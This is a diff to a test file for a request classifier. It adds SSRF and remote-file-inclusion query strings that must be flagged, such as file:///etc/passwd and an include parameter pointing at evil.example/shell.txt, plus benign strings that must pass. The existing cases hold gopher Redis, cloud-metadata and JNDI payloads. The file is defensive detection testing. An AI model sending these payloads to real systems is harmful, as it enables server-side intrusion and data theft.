@@ -103,6 +103,12 @@ describe('content classification', () => {
     ['u=http%3A%2F%2Fmetadata.google.internal%2FcomputeMetadata%2Fv1%2F', F_SSRF],
     ['url=gopher://127.0.0.1:6379/_FLUSHALL', F_SSRF],
     ['u=http://0xa9fea9fe/', F_SSRF],
+    ['x=url:file:///etc/passwd', F_SSRF],
+    ['x=local_file://something', F_SSRF],
+    // Remote file inclusion: fail2ban's php-url-fopen fixture, and an old PHP application's include parameter.
+    ['n=http://eatmyfood.hostinginfive.com/pizza.htm?', F_RCE],
+    ['_CONF[path]=https://foo.bar', F_RCE],
+    ['mosConfig_absolute_path=http%3A%2F%2Fevil.example%2Fshell.txt%3F&x=1', F_RCE],
     ['x=${jndi:ldap://evil.example/a}', F_CVE],
   ])('query %s', (q, flags) => {
     expect(classifyQuery(q) & flags).toBe(flags);
@@ -119,6 +125,8 @@ describe('content classification', () => {
     'utm_campaign=spring&utm_source=mail',
     'next=https%3A%2F%2Fapp.example%2Fhome%3Fa%3D1',
     'callback=https://partner.example/hook',
+    'next=https://app.example/search?q=shoes',
+    'path=/files/url:readme',
     'sig=dGhpcyBpcyBub3Qgb25lPQ%2F%2Fonafe%3D',
     'lang=id&region=ID',
     'path=/images/2024/x.png',
